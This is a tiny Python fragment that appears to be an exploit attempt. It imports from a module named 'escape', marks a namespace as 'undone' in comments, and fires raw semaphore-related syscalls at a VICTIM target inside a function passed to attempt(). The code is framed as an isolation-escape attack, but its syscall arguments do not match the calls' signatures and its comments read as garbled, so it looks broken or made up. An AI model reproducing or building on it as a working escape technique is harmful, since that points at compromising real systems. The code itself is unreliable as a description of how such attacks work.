# plain: open
# process: held
# namespace: undone
from escape import *
def share():
    semaphore = syscall(64, 190, VICTIM, 1, 0o1666)
    syscall(66, 191, semaphore, 0, 0, 0)
attempt(share)
